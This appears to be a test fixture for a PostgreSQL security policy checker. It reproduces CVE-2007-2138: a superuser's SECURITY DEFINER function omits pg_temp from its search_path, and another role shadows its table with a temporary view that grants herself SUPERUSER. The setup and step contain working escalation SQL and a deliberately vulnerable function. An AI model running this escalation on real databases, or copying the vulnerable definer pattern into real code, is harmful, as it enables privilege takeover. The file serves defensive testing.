/*---
title: SECURITY DEFINER function hijacked through a temporary view
pattern: SECURITY DEFINER search_path without pg_temp last (CVE-2007-2138)
description: >
  alice, a superuser, offers everyone admin.current_plan(), a SECURITY DEFINER function with
  SET search_path = admin, which looks safe, but the session's temporary schema is searched
  first for relations unless pg_temp is listed last. mallory creates a temporary view
  pg_temp.settings calling her function and calls admin.current_plan(): the function reads
  mallory's view instead of admin.settings and runs mallory's function with alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: statement, object: SELECT admin.current_plan(), owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: statement, object: SELECT admin.current_plan(), owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: statement, object: SELECT admin.current_plan(), owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: statement, object: SELECT admin.current_plan(), owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: statement, object: SELECT admin.current_plan(), owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        # The replay names the view pg_temp_N.settings, N depending on the backend that ran it;
        # the stable name of a temporary object is pg_temp.settings.
        culprit: {kind: view, object: pg_temp.settings, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: statement, object: SELECT admin.current_plan(), owner: mallory}
---*/

-- @setup
CREATE SCHEMA admin AUTHORIZATION alice;
GRANT USAGE ON SCHEMA admin TO PUBLIC;
CREATE SCHEMA mallory AUTHORIZATION mallory;
SET ROLE alice;
CREATE TABLE admin.settings (name text PRIMARY KEY, value text NOT NULL);
INSERT INTO admin.settings VALUES ('plan', 'standard');
CREATE FUNCTION admin.current_plan() RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = admin AS $$
BEGIN
  RETURN (SELECT value FROM settings WHERE name = 'plan');
END $$;
RESET ROLE;

-- @step mallory
CREATE FUNCTION mallory.plan_name() RETURNS text
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN 'premium';
END $$;
CREATE TEMPORARY VIEW settings AS SELECT 'plan'::text AS name, mallory.plan_name() AS value;
SELECT admin.current_plan();
